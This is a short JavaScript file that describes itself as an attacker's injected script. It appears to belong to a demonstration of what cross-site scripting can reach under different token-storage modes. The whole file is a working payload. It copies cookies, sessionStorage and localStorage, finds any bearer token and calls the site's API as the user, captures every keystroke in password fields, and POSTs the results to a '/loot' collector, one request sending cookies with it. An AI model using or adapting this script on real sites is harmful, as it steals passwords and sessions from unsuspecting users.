// The attacker's injected script. It sends away all that a script can read, acts as the user, and listens to typing.

const mode = new URLSearchParams(location.search).get('mode');
const readable = {
  cookie: document.cookie,
  sessionStorage: { ...sessionStorage },
  localStorage: { ...localStorage },
};

/** To another site, and to another port of the same host with the cookies that the browser adds by itself. */
function send(loot, credentials = 'same-origin') {
  const collector = new URL('/loot', import.meta.url);
  if (credentials === 'include') collector.hostname = location.hostname;
  return fetch(collector, { method: 'POST', mode: 'no-cors', credentials, body: JSON.stringify(loot) });
}

/** As the page itself would: with the token if there is one to find. */
async function whoAmI() {
  const kept = Object.values({ ...readable.sessionStorage, ...readable.localStorage }).map(JSON.parse);
  const token = kept.find((each) => each.access_token)?.access_token;
  const headers = token ? { authorization: `Bearer ${token}` } : {};
  return (await fetch(`/api/${mode}/me`, { headers })).json();
}

document.querySelector('input[type=password]').addEventListener('input', ({ target }) => {
  send({ typed: target.value });
});
await send({ readable, me: await whoAmI() });
await send({}, 'include');
